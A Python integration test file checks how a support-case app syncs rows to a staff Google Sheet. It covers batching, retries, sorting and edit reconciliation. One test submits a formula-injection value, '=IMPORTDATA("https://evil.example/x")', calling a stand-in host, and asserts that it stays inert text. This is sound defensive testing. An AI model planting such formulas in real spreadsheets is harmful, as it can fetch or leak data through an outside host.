"""The staff's Google Sheet, against a fake of Google's HTTP API (tests/fakes): the exact
requests a sync makes, values kept as text, rows found by case id, quota trouble survived,
edits taken back through the webhook and the reconcile."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

from chalicelib import bootstrap
from chalicelib.adapters import google_sheets
from chalicelib.domain.sheet_views import VIEWS_BY_NAME
from chalicelib.domain.staff import Role
from chalicelib.services import sheets, staff_desk
from tests.conftest import SHEETS_SECRET as SECRET
from tests.fakes.google_sheets import FakeGoogleSheets
from tests.integration.test_sheet_workbook import signed
from tests.integration.test_staff_api import act, report


def add(staff_id: str, role: Role, email: str) -> str:
    _, token = staff_desk.add_staff(
        bootstrap.case_store(), staff_id=staff_id, name=staff_id.title(), role=role,
        email=email, now=datetime.now(UTC))
    return token


def desk() -> sheets.SheetDesk:
    found = bootstrap.sheet_desk()
    assert found is not None
    return found


def keys(fake: FakeGoogleSheets, sheet_id: str, title: str) -> list[str]:
    """The column keys of a tab's header (headers are in the company's language)."""
    view = VIEWS_BY_NAME[title]
    return [view.key_of_header(text) or text for text in fake.tab_values(sheet_id, title)[0]]


def rows(fake: FakeGoogleSheets, sheet_id: str, title: str) -> list[dict[str, str]]:
    """A tab's rows as people see them, by column key ("case_number", "owner", "sync note")."""
    header = keys(fake, sheet_id, title)
    return [dict(zip(header, row + [""] * (len(header) - len(row)), strict=True))
            for row in fake.tab_values(sheet_id, title)[1:] if any(row)]


def by_case(fake: FakeGoogleSheets, sheet_id: str, title: str) -> dict[str, dict[str, str]]:
    return {row["case_number"]: row for row in rows(fake, sheet_id, title)}


def row_of(fake: FakeGoogleSheets, sheet_id: str, title: str, case_number: str) -> int:
    values = fake.tab_values(sheet_id, title)
    return next(i for i, row in enumerate(values, start=1) if row and row[0] == case_number)


def column_of(fake: FakeGoogleSheets, sheet_id: str, title: str, key: str) -> str:
    return google_sheets._letter(keys(fake, sheet_id, title).index(key))


def test_one_sync_is_one_read_and_one_batch_write_whatever_the_number_of_rows(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    for n in range(3):
        report(client, customer={"name": f"Customer {n}", "email": f"c{n}@example.com"})
    sheets.sync(desk())  # lays the tabs out, writes 3 rows
    assert len(by_case(fake, sheet_id, "Cases")) == 3
    fake.clear_log()
    for n in range(12):
        report(client, customer={"name": f"Later {n}", "email": f"l{n}@example.com"})
    result = sheets.sync(desk())
    assert result.rows_added == 12
    kinds = [request.kind for request in fake.requests if request.kind != "token"]
    assert kinds == ["values.batchGet", "batchUpdate"], kinds
    # Every value went as a typed string cell: never a formula, never parsed.
    body = fake.last("batchUpdate").body
    cells = [cell for request in body["requests"] for key in ("appendCells", "updateCells")
             if key in request for row in request[key]["rows"] for cell in row["values"]]
    assert cells and all(set(c.get("userEnteredValue", {"stringValue": ""})) == {"stringValue"}
                         for c in cells)
    assert len(by_case(fake, sheet_id, "Cases")) == 15


def test_formulas_and_phone_numbers_from_customers_stay_text(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    receipt = report(client, description='=IMPORTDATA("https://evil.example/x")',
                     customer={"name": "+1 (555) Bob", "email": "b@example.com",
                               "phone": "+1 (555) 0100"})
    sheets.sync(desk())
    row = row_of(fake, sheet_id, "Cases", receipt["case_number"])
    summary = column_of(fake, sheet_id, "Cases", "summary")
    phone = column_of(fake, sheet_id, "Cases", "phone")
    assert fake.cell_kind(sheet_id, "Cases", f"{summary}{row}") == "string"
    assert fake.cell(sheet_id, "Cases", f"{summary}{row}") == '=IMPORTDATA("https://evil.example/x")'
    assert fake.cell(sheet_id, "Cases", f"{phone}{row}") == "+1 (555) 0100"
    assert fake.cell_kind(sheet_id, "Cases", f"{phone}{row}") == "string"


def test_the_tabs_are_laid_out_for_people(client: Any, google: tuple[FakeGoogleSheets, str]
                                         ) -> None:
    fake, sheet_id = google
    add("ann", Role.AGENT, "ann@example.com")
    report(client)
    sheets.sync(desk())
    cases = fake.tab(sheet_id, "Cases")
    assert cases.frozen_row_count == 1
    owner = column_of(fake, sheet_id, "Cases", "owner")
    outcome_tab = fake.tab(sheet_id, "Follow-ups")
    outcome = column_of(fake, sheet_id, "Follow-ups", "outcome")
    validation = outcome_tab.validation_at(f"{outcome}5")
    assert validation is not None
    assert [v["userEnteredValue"] for v in validation["condition"]["values"]] == [
        "satisfied", "not_satisfied", "no_answer", "question"]
    assert cases.validation_at(f"{owner}2") is not None  # staff ids
    assert not cases.protected_ranges_at(f"{owner}2")  # editable
    assert cases.protected_ranges_at("A2")  # the case number is not
    assert cases.protected_ranges_at(f"{column_of(fake, sheet_id, 'Cases', 'sync note')}2")
    assert cases.is_column_hidden(column_of(fake, sheet_id, "Cases", "case id"))
    assert cases.is_column_hidden(column_of(fake, sheet_id, "Cases", "version"))
    assert not cases.is_column_hidden("A")
    assert cases.conditional_formats_at("A5")  # overdue rows highlighted


def test_rows_are_found_by_case_id_after_staff_sort_the_sheet(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    token = add("sue", Role.SUPERVISOR, "sue@example.com")
    receipts = [report(client, customer={"name": f"C{n}", "email": f"c{n}@example.com"})
                for n in range(5)]
    sheets.sync(desk())
    fake.sort_rows(sheet_id, "Cases", 0, descending=True)  # a person sorts by case number
    target = receipts[1]
    case = bootstrap.case_store().get_case(target["case_id"])
    assert case is not None
    assert act(client, token, target["case_id"], "assign_owner", case.version,
               {"owner": "sue"}).status_code == 200
    assert act(client, token, receipts[3]["case_id"], "cancel", 1,
               {"text": "duplicate"}).status_code == 200
    sheets.sync(desk())
    shown = by_case(fake, sheet_id, "Cases")
    assert shown[target["case_number"]]["owner"] == "sue"
    assert receipts[3]["case_number"] not in shown
    assert {number: row["owner"] for number, row in shown.items()
            if number != target["case_number"]} == dict.fromkeys(
        [r["case_number"] for i, r in enumerate(receipts) if i not in (1, 3)], "")
    assert sheets.check(desk(), [r["case_id"] for r in receipts]) == []


def test_quota_answers_are_retried_with_backoff_and_an_outage_loses_nothing(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    first = report(client)
    sheets.sync(desk())
    fake.fail_next(3, status=429, kinds="writes")
    second = report(client, customer={"name": "Two", "email": "two@example.com"})
    result = sheets.sync(desk())
    assert not result.unavailable and result.rows_added == 1
    assert len([r for r in fake.requests if r.kind == "batchUpdate" and r.injected]) == 3
    with fake.outage(503):
        third = report(client, customer={"name": "Three", "email": "three@example.com"})
        result = sheets.sync(desk())
        assert result.unavailable
    assert third["case_number"] not in by_case(fake, sheet_id, "Cases")
    result = sheets.sync(desk())  # Google is back: the sync catches up
    assert not result.unavailable
    assert set(by_case(fake, sheet_id, "Cases")) == {
        first["case_number"], second["case_number"], third["case_number"]}


def test_a_large_sync_is_split_only_to_stay_under_the_payload_limit(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    report(client)
    small = desk()
    sheets.sync(small)  # the layout
    for n in range(8):
        report(client, customer={"name": f"C{n}", "email": f"c{n}@example.com"})
    assert isinstance(small.backend, google_sheets.GoogleSheet)
    small.backend._max_payload = 2_000
    fake.clear_log()
    sheets.sync(desk())  # a new desk (it is now later), the same sheet client
    writes = [r for r in fake.requests if r.kind == "batchUpdate"]
    assert len(writes) > 1 and all(r.body_size <= 2_000 for r in writes)
    assert len(by_case(fake, sheet_id, "Cases")) == 9


def post_edit(client: Any, sheet_id: str, title: str, row: int, editor: str) -> Any:
    raw = json.dumps({"spreadsheet_id": sheet_id, "sheet": title, "rows": [row],
                      "editor": editor}).encode()
    return client.http.post("/api/sheets/edits", headers=signed(SECRET, raw), body=raw)


def test_a_stale_edit_is_applied_only_where_nothing_changed_meanwhile(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    sue = add("sue", Role.SUPERVISOR, "sue@example.com")
    add("bob", Role.AGENT, "bob@example.com")
    add("kim", Role.AGENT, "kim@example.com")
    receipt = report(client)
    sheets.sync(desk())
    row = row_of(fake, sheet_id, "Cases", receipt["case_number"])
    owner = column_of(fake, sheet_id, "Cases", "owner")
    note = column_of(fake, sheet_id, "Cases", "add_note")
    # Meanwhile, through the API, someone assigns the case to kim (the sheet still says v1).
    assert act(client, sue, receipt["case_id"], "assign_owner", 1,
               {"owner": "kim"}).status_code == 200
    # Sue, on the old row, gives it to bob: the owner changed meanwhile, so it is put back.
    fake.set_cell(sheet_id, "Cases", f"{owner}{row}", "bob")
    answer = post_edit(client, sheet_id, "Cases", row, "sue@example.com")
    assert answer.status_code == 200 and json.loads(answer.body)["refused"] == 1
    shown = by_case(fake, sheet_id, "Cases")[receipt["case_number"]]
    assert shown["owner"] == "kim"
    # Why, in the company's language (sue has none): who changed it, at which version.
    assert "负责人 已被 sue 修改" in shown["sync note"] and "第 2 版" in shown["sync note"]
    case = bootstrap.case_store().get_case(receipt["case_id"])
    assert case is not None and case.owner == "kim"
    # A note on a stale row touches a column nobody changed: it goes in.
    assert act(client, sue, receipt["case_id"], "add_note", case.version,
               {"text": "called the customer"}).status_code == 200
    fake.set_cell(sheet_id, "Cases", f"{note}{row}", "parcel photos requested")
    answer = post_edit(client, sheet_id, "Cases", row, "sue@example.com")
    assert json.loads(answer.body)["applied"] == 1
    history = bootstrap.case_store().case_history(receipt["case_id"])
    assert history[0].action == "add_note" and history[0].actor == "staff:sue"
    assert history[0].details == {"text": "parcel photos requested"}
    shown = by_case(fake, sheet_id, "Cases")[receipt["case_number"]]
    assert shown["add_note"] == "" and shown["sync note"] == ""


def test_an_edit_whose_webhook_was_lost_is_taken_in_by_the_reconcile(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    add("sue", Role.SUPERVISOR, "sue@example.com")
    add("bob", Role.AGENT, "bob@example.com")
    receipt = report(client)
    sheets.sync(desk())
    row = row_of(fake, sheet_id, "Cases", receipt["case_number"])
    fake.set_cell(sheet_id, "Cases", f"{column_of(fake, sheet_id, 'Cases', 'owner')}{row}", "bob")
    fake.set_cell(sheet_id, "Cases",
                  f"{column_of(fake, sheet_id, 'Cases', 'edited by')}{row}", "sue@example.com")
    fake.clear_log()
    result = sheets.reconcile(desk())
    assert result.edits_applied == 1
    reads = [r for r in fake.requests if r.kind in ("values.batchGet", "metadata")]
    assert len(reads) == 1  # one read for every view
    case = bootstrap.case_store().get_case(receipt["case_id"])
    assert case is not None and case.owner == "bob"
    assert by_case(fake, sheet_id, "Cases")[receipt["case_number"]]["version"] == str(
        case.version)


def test_a_row_staff_deleted_is_put_back_by_the_reconcile(
    client: Any, google: tuple[FakeGoogleSheets, str]
) -> None:
    fake, sheet_id = google
    receipt = report(client)
    sheets.sync(desk())
    fake.delete_row(sheet_id, "Cases", row_of(fake, sheet_id, "Cases", receipt["case_number"]))
    assert receipt["case_number"] not in by_case(fake, sheet_id, "Cases")
    sheets.reconcile(desk())
    assert receipt["case_number"] in by_case(fake, sheet_id, "Cases")
